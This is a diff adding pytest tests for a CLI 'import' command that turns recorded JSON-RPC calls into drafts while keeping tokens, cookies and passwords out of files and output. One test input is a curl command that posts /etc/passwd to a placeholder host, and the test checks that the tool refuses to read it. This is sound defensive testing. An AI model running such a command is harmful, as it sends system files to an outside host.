@@ -1,0 +1,150 @@
+"""``import``: calls of other programs become drafts; credentials go to the store after a yes, and nowhere else."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import click
+import pytest
+
+from rpcexplorer.cli.world import World
+from tests.fakes.shell import Ran, Shell
+
+FILES = Path(__file__).parents[1] / "model" / "importing" / "files"
+PROFILE = '[profile.staging]\nurl = "https://shop.example.com"\npath = "/rpc"\nauth = { kind = "bearer" }\n'
+SECRETS = ("page-token-4711", "cookie-session-2342", "browser-bearer-0815")
+CALL = '{"jsonrpc": "2.0", "id": 1, "method": "user.get", "params": {"n": 1.10}}'
+
+
+@pytest.fixture
+def staging(shell: Shell) -> Shell:
+    shell.sessions(PROFILE)
+    return shell
+
+
+def take_in(shell: Shell, text: str | bytes, *more: str) -> Ran:
+    return shell.run("import", "-", *more, stdin=text.encode() if isinstance(text, str) else text)
+
+
+def draft(shell: Shell, method: str) -> str:
+    """What stands in the file of a method's draft."""
+    found = {name: text for name, text in shell.files().items() if name.endswith(".draft") and "replaced" not in name}
+    (text,) = [text for text in found.values() if f" {method}\n" in text]
+    return text.partition("\n")[2]
+
+
+def replaced(shell: Shell) -> list[str]:
+    """What can be brought back, of the only method that has something."""
+    (text,) = [text for name, text in shell.files().items() if "replaced" in name and name.endswith(".draft")]
+    found: list[str] = json.loads(text.partition("\n")[2])
+    return found
+
+
+def test_a_recording_becomes_drafts_and_all_that_was_left_out_is_said(staging: Shell) -> None:
+    ran = staging.run("import", str(FILES / "firefox.har"))
+    assert ran.code == 0
+    assert [line.split()[0] for line in ran.text.splitlines()] == ["user.get", "note.add", "ping", "log.write"]
+    for said in (
+        "requests 1, 3 left out: it is a GET without a body",
+        "request 6 left out: its body is no JSON object",
+        "staging sends calls to https://shop.example.com/rpc; these went to http://127.0.0.1:8744/rpc",
+        "were dropped: ?token= in the address, Authorization: Bearer, cookie sessionid",
+        "4 calls in the drafts of staging",
+    ):
+        assert said in ran.err
+    assert draft(staging, "user.get") == '{"id":12345678901234567890,"price":1.10,"price":1.100}'
+    everything = ran.text + ran.err + "".join(staging.files().values())
+    assert not [each for each in SECRETS if each in everything]
+
+
+def test_without_a_terminal_credentials_are_dropped_and_the_command_to_store_them_is_named(staging: Shell) -> None:
+    ran = staging.run("import", str(FILES / "chromium.bash.txt"))
+    assert ran.code == 0
+    assert "the token that came along was dropped; to store one: rpcexplorer profiles secret staging token" in ran.err
+    assert not [each for each in SECRETS if each in "".join(staging.files().values())]
+
+
+@pytest.mark.parametrize("yes", [True, False])
+def test_a_token_is_stored_for_its_profile_after_one_yes(
+    staging: Shell, monkeypatch: pytest.MonkeyPatch, *, yes: bool
+) -> None:
+    questions: list[str] = []
+    monkeypatch.setattr(World, "asks", True)
+
+    def answer(question: str, **_: object) -> bool:
+        questions.append(question)
+        return yes
+
+    monkeypatch.setattr(click, "confirm", answer)
+    ran = staging.run("import", str(FILES / "chromium.bash.txt"))
+    assert questions == ["Store the token that came along for profile staging (https://shop.example.com/rpc)?"]
+    held = {Path(name).name for name, text in staging.files().items() if "browser-bearer-0815" in text}
+    assert held == ({"secrets.toml"} if yes else set())
+    assert "browser-bearer-0815" not in ran.text + ran.err
+
+
+def test_what_was_typed_before_can_be_brought_back(staging: Shell) -> None:
+    take_in(staging, CALL)
+    ran = take_in(staging, CALL.replace("1.10", "2.20"))
+    assert "params that gave way can be brought back on screen: user.get" in ran.err
+    assert (draft(staging, "user.get"), replaced(staging)) == ('{"n": 2.20}', ['{"n": 1.10}'])
+
+
+def test_many_calls_of_one_method_push_nothing_out_of_what_can_be_brought_back(staging: Shell) -> None:
+    take_in(staging, CALL)
+    lines = "\n".join(CALL.replace("1.10", str(number)) for number in range(30))
+    ran = take_in(staging, lines)
+    assert "10 calls in the drafts of staging" in ran.err
+    assert "20 more of the same methods were left out" in ran.err
+    assert replaced(staging)[0] == '{"n": 1.10}'
+
+
+def test_what_is_found_can_be_had_as_json_and_nothing_is_kept_of_a_dry_run(staging: Shell) -> None:
+    ran = staging.run("import", str(FILES / "chromium.bash.txt"), "--json", "--dry-run")
+    found = json.loads(ran.text)
+    assert (found["form"], found["calls"][0]["method"]) == ("curl", "note.add")
+    assert '"n": 1e400' in ran.text
+    assert {"field": "session", "place": "cookie sessionid"} in found["calls"][0]["credentials"]
+    assert not [name for name in staging.files() if name.endswith(".draft")]
+
+
+def test_a_password_among_the_params_is_on_no_line(staging: Shell) -> None:
+    ran = take_in(
+        staging, '{"id": 1, "method": "login", "params": {"user": "ada", "password": "pass-word-1"}}', "--json"
+    )
+    assert "pass-word-1" not in ran.text + ran.err
+    assert take_in(staging, CALL.replace('{"n": 1.10}', '{"password": "pass-word-1"}')).text.count("pass-word-1") == 0
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("", "Nothing was imported. There is nothing in it."),
+        ("curl -d @/etc/passwd http://a.example", "its body would come from the file /etc/passwd, which is not read"),
+        ('{"result": 1}', "request 1 left out: it is a reply"),
+    ],
+)
+def test_where_nothing_can_be_used_that_is_said_and_the_code_is_2(staging: Shell, text: str, said: str) -> None:
+    ran = take_in(staging, text)
+    assert (ran.code, ran.out) == (2, b"")
+    assert said in ran.err
+
+
+def test_drafts_need_a_profile_with_a_name(shell: Shell) -> None:
+    ran = shell.run("--url", "http://a.example/", "import", "-", stdin=CALL.encode())
+    assert ran.code == 2
+    assert "name one with -p" in ran.err
+
+
+def test_lines_of_our_own_export_come_back_as_calls(staging: Shell) -> None:
+    row = {
+        "id": "a",
+        "time": "2026-11-22",
+        "url": "https://shop.example.com/rpc",
+        "method": "m",
+        "kind": "notification",
+    }
+    ran = take_in(staging, json.dumps({**row, "params": '{"n": 1.10}', "reply": "x"}))
+    assert ran.code == 0
+    assert ran.text.split() == ["m", '{"n":', "1.10}", "https://shop.example.com/rpc", "notification"]
